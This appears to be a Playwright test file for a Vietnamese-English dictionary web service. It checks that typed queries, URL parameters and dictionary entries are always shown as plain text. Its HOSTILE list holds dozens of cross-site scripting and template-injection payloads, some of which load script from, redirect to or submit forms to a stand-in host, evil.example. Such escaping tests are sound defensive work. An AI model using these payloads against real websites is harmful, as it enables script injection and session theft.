"""Whatever is typed, sent or stands in a dictionary is text: no script runs and no element comes to be."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import get_args
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from dictsvc.loading import LoadRequest, load
from dictsvc.model import Collocation, Dictionary, Entry, Example, Idiom, Link, LinkKind, RegionalPronunciation, Sense
from dictsvc.serving import TARGET
from dictsvc.sources.readers.tsv import tsv_lines
from tests.browser.conftest import OpenPage
from tests.browser.pointing import double_click
from tests.browser.portal import Portal, serving
from tests.servers import running

_RUN = "window.hit=1"
HOSTILE = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script x>{_RUN}</script x>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src=x onerror="{_RUN}">',
    f"<img src=`x` onerror={_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x></svg>",
    f"<body onload={_RUN}>",
    f"<body onpageshow={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<object data=javascript:{_RUN}>",
    f"<embed src=javascript:{_RUN}>",
    f"<a href=javascript:{_RUN}>a</a>",
    f'<a href="java\tscript:{_RUN}">a</a>',
    f"<math><a xlink:href=javascript:{_RUN}>a</a></math>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<style>@import 'x';</style><b onmouseover={_RUN}>",
    f"<link rel=stylesheet href=x onerror={_RUN}>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>a</button></form>",
    f"<template><script>{_RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[><img src=x onerror={_RUN}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={_RUN}>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" autofocus onfocus="{_RUN}',
    f"' autofocus onfocus='{_RUN}",
    f'" onmouseover={_RUN} x="',
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</section><img src=x onerror={_RUN}>",
    f"</form><img src=x onerror={_RUN}>",
    f"</mark><img src=x onerror={_RUN}>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_RUN}",
    f"＜script＞{_RUN}＜/script＞",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"javascript:{_RUN}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{{ config }}",
    f"';{_RUN};//",
    f'<b class="td-listen" data-text=x onclick={_RUN}>',
)
_ELEMENTS = "script, img, svg, iframe, object, embed, math, marquee, video, audio, template, base, style, b.td-listen"


def assert_text_only(page: Page, text: str, within: str = ".tu-dien-results") -> None:
    assert page.evaluate("window.hit") is None, text
    shown = page.locator(within)
    assert shown.locator(_ELEMENTS).count() == 0, text
    handlers = "nodes => nodes.flatMap((node) => node.getAttributeNames()).filter((name) => name.startsWith('on'))"
    assert shown.locator("*").evaluate_all(handlers) == [], text
    assert not [
        url for url in shown.locator("a").evaluate_all("links => links.map((a) => a.protocol)") if url not in _SCHEMES
    ]


_SCHEMES = ("http:", "mailto:")


def test_there_are_many() -> None:
    assert len(set(HOSTILE)) >= 50


def test_typed_in_the_box(open_page: OpenPage, portal: Portal) -> None:
    page = open_page(portal.url)
    box = page.get_by_role("combobox", name="Tra từ:")
    for text in HOSTILE:
        box.fill(text)
        box.press("Enter")
        sent = " ".join(text.split())
        expect(page.locator(".tu-dien-results")).to_have_attribute("data-query", " ".join(text.split(" ")).strip())
        assert_text_only(page, sent)


def test_as_a_place_in_the_alphabet(open_page: OpenPage, service_url: str) -> None:
    page = open_page(service_url)
    for text in HOSTILE[::5]:
        page.goto(f"{service_url}/browse?from={quote(text)}", wait_until="domcontentloaded")
        expect(page.locator('input[name="from"]')).to_have_value(text)
        assert_text_only(page, text, "main")


def test_in_the_address(open_page: OpenPage, service_url: str) -> None:
    page = open_page(service_url)
    for text in HOSTILE:
        page.goto(f"{service_url}/?q={quote(text)}", wait_until="domcontentloaded")
        expect(page.locator('input[name="q"]')).to_have_value(text.replace("\n", ""))
        assert_text_only(page, text, "main")


@pytest.fixture(scope="module")
def hostile_service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A service whose dictionary says hostile things in every place where a dictionary can say anything."""
    folder: Path = tmp_path_factory.mktemp("hostile")
    dictionary = Dictionary(id="xx", title=HOSTILE[0], source_language="vi", target_language="en", licence=HOSTILE[5])
    entries = [
        Entry(
            headword=f"từ {number} {text}",
            variants=(text,),
            pronunciation=text,
            senses=(
                Sense(
                    text,
                    (text,),
                    text,
                    text,
                    (Example(text, text), Example(f"từ {text}", text)),
                    text,
                    (Collocation(text, text),),
                    (text,),
                    (text,),
                ),
            ),
            idioms=(Idiom(text, (Sense(gloss=text),)),),
            etymology=text,
            links=tuple(Link(kind, text, text) for kind in get_args(LinkKind)),
            regional_pronunciations=(RegionalPronunciation(text, text),),
        )
        for number, text in enumerate(HOSTILE)
    ]
    file = folder / "hostile.tsv"
    file.write_text("\n".join(tsv_lines(dictionary, entries)) + "\n", "utf-8")
    database = folder / "dictsvc.sqlite3"
    load(database, [LoadRequest(path=file, id="xx")])
    with running(TARGET, "/readyz", database=database, workers=1) as server:
        yield f"http://127.0.0.1:{server.port}"


def test_in_a_dictionary(open_page: OpenPage, hostile_service: str) -> None:
    with serving(Portal(hostile_service)) as portal:
        page = open_page(portal.url)
        box = page.get_by_role("combobox", name="Tra từ:")
        for number, text in enumerate(HOSTILE):
            box.press_sequentially(f"từ {number} ")
            expect(page.locator(".td-option").first).to_contain_text(f"từ {number}")
            assert_text_only(page, text, ".td-options")
            box.press("Enter")
            expect(page.locator(".td-entry h2", has_text=f"từ {number} ").first).to_be_visible()
            assert_text_only(page, text)
            box.fill("")


def test_in_a_dictionary_on_the_page_and_in_the_card(open_page: OpenPage, hostile_service: str) -> None:
    page = open_page(f"{hostile_service}/browse")
    assert_text_only(page, "browse", "main")
    for path in page.locator(".td-headwords a").evaluate_all("links => links.map((a) => a.href)")[:12]:
        page.goto(path)
        expect(page.locator(".td-entry").first).to_be_visible()
        page.locator(".td-entry h2 a").first.click()
        assert_text_only(page, path, "main")
    with serving(Portal(hostile_service)) as portal:
        page = open_page(portal.add("/card", "<p>từ 1 và từ 2</p>", widget="data-popup"))
        double_click(page, "từ")
        expect(page.locator("tu-dien-card .tu-dien-results")).to_be_visible()
        assert_text_only(page, "card", "tu-dien-card .td-card")


def test_a_hostile_page_of_the_portal(open_page: OpenPage, portal: Portal) -> None:
    """What the card is asked to explain is text as well."""
    page = open_page(portal.add("/text", "<p>&lt;img src=x onerror=window.hit=1&gt; quyết</p>", widget="data-popup"))
    double_click(page, "onerror")
    expect(page.locator("tu-dien-card .tu-dien-results")).to_be_visible()
    assert_text_only(page, "portal", "tu-dien-card .td-card")
